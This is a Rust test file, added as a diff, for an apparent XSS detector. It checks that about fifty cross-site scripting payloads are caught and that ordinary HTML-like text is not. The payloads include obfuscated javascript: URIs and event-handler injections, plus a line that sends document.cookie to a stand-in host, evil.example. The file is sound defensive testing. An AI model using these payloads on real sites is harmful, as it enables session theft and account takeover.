@@ -1,0 +1,176 @@
+use super::*;
+use crate::{Detector, FieldKind, Input, Level};
+
+fn hit(s: &str, level: Level) -> Option<Hit> {
+    XssDetector.check(&Input { raw: s, decoded: s, field: FieldKind::QueryValue }, level)
+}
+
+fn conf(s: &str) -> u8 {
+    let mut steps = 0;
+    analyze(s, &mut steps).map_or(0, |f| f.confidence)
+}
+
+#[test]
+fn attacks_are_detected_at_balanced() {
+    let attacks = [
+        "<script>alert(1)</script>",
+        "<ScRiPt src=//evil.example/x.js></script>",
+        "<img src=x onerror=alert(1)>",
+        "<img/src=x\nonerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg/onload=alert(1)",
+        "<body onpageshow=alert(1)>",
+        "<details open ontoggle=alert(1)>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+        "<a href=\" \u{1}javascript:alert(1)\">x</a>",
+        "<a href=\"javascript&colon;alert(1)\">x</a>",
+        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<object data=\"javascript:alert(1)\">",
+        "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
+        "<form><button formaction=javascript:alert(1)>x</button></form>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+        "<div style=\"width: expression(alert(1))\">",
+        "<div style=\"background:url(javascript:alert(1))\">",
+        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
+        "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
+        "<svg><set attributeName=onmouseover to=alert(1)>",
+        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+        "<base href=\"//evil.example/\">",
+        "\" onmouseover=\"alert(1)\" x=\"",
+        "' onfocus='alert(1)' autofocus '",
+        "\" autofocus onfocus=alert(1) \"",
+        "'><script>alert(1)</script>",
+        "\"><img src=x onerror=prompt(1)>",
+        "';alert(1)//",
+        "\";alert(document.cookie);//",
+        "\"-alert(1)-\"",
+        "'+confirm(1)+'",
+        "\\';alert(1);//",
+        "</script><script>alert(1)</script>",
+        "${alert(1)}",
+        "`${fetch('//evil.example/'+document.cookie)}`",
+        "javascript:alert(1)",
+        "JaVaScRiPt:eval(atob('YWxlcnQoMSk='))",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "alert(1)",
+        "'-top['al'+'ert'](1)-'",
+        "<x onclick=alert(1)>click",
+        "<img src=x onerror=alert(1)//",
+        "%3Cscript%3Ealert(1)%3C/script%3E",
+        "onload",
+        "onPointerRawUpdate",
+        "<template><img src=x onerror=alert(1)></template>",
+    ];
+    for a in attacks {
+        let h = hit(a, Level::Balanced);
+        assert!(h.is_some(), "missed {a:?} (confidence {})", conf(a));
+        let h = h.unwrap();
+        assert_eq!(h.detector, "xss");
+        assert_eq!(h.category, Category::Xss);
+        assert!(h.fragment.len() <= 64);
+    }
+}
+
+#[test]
+fn benign_html_ish_text_is_not_blocked() {
+    let benign = [
+        "a < b and c > d",
+        "<3",
+        "I <3 you",
+        "x<y",
+        "if (a < b) { return a; }",
+        "for (let i = 0; i < n; i++) { sum += i; }",
+        "<john@example.com>",
+        "John Doe <john@example.com>",
+        "**bold** and _italic_ and `code`",
+        "[link](https://example.com/page?a=1)",
+        "# Heading\n\n- item 1\n- item 2",
+        "<b>bold</b> and <i>italic</i>",
+        "<a href=\"https://example.com/\">example</a>",
+        "<p class=\"note\">Hello</p>",
+        "<img src=\"/images/cat.png\" alt=\"A cat\">",
+        "He said \"hello\"; then left",
+        "It's John's book",
+        "online",
+        "onion rings",
+        "onset of symptoms",
+        "Please confirm your e-mail address",
+        "Don't forget to confirm (you'll get a mail)",
+        "the alert level is high",
+        "javascript is fun",
+        "I love JavaScript: it's weird",
+        "https://example.com/?q=a+b&c=d",
+        "price: 10 EUR",
+        "x = y + 1;",
+        "function add(a, b) { return a + b; }",
+        "console.log('hello')",
+        "=SUM(A1:A3)",
+        "Tom & Jerry",
+        "AT&T",
+        "5 > 3",
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
+        "{\"key\": \"value\", \"n\": [1, 2, 3]}",
+        "C:\\Program Files\\App",
+        "<!-- a comment -->",
+    ];
+    for b in benign {
+        assert!(hit(b, Level::Balanced).is_none(), "false positive {b:?} (confidence {})", conf(b));
+    }
+}
+
+#[test]
+fn schemes_are_resolved_like_browsers() {
+    use html::{scheme, Scheme};
+    assert_eq!(scheme("  javascript:x"), Some(Scheme::Script));
+    assert_eq!(scheme("java\tscript:x"), Some(Scheme::Script));
+    assert_eq!(scheme("\u{1}VBScript:x"), Some(Scheme::Script));
+    assert_eq!(scheme("data:text/html,x"), Some(Scheme::DataHtml));
+    assert_eq!(scheme("https://x"), None);
+    assert_eq!(html::decode_entities("&#x6A;&#97&colon;"), "ja:");
+}
+
+fn steps_for(s: &str) -> usize {
+    let mut steps = 0;
+    let _ = analyze(s, &mut steps);
+    steps
+}
+
+#[test]
+fn pathological_inputs_stay_linear() {
+    let n = 1 << 20;
+    let cases: Vec<String> = vec![
+        "'".repeat(n),
+        "\"".repeat(n),
+        "<".repeat(n),
+        "<a ".repeat(n / 3),
+        "<a b=\"".repeat(n / 6),
+        "<style>".repeat(n / 7),
+        "(".repeat(100_000),
+        "${".repeat(n / 2),
+        "['".repeat(n / 2),
+        "top[".repeat(n / 4),
+        "alert".repeat(n / 5),
+        "prompt".repeat(n / 6),
+        "&#".repeat(n / 2),
+        "<!--".repeat(n / 4),
+        "javascript:".repeat(n / 11),
+        "on".repeat(n / 2),
+        "%3C".repeat(n / 3),
+        "+ADw-".repeat(n / 5),
+    ];
+    for c in &cases {
+        let steps = steps_for(c);
+        assert!(steps <= 60 * c.len() + 1000, "{} steps for {} bytes starting {:?}", steps, c.len(), &c[..8]);
+        let _ = hit(c, Level::Strict);
+    }
+}
+
+#[test]
+fn odd_bytes_do_not_panic() {
+    for s in ["<", "<a", "<a b", "<a b=", "<a b='", "&#", "&#x", "&#99999999999;", "<\u{0}>", "<é onload=x>", "¼script¾", "'\u{10ffff}"] {
+        let _ = hit(s, Level::Strict);
+    }
+}
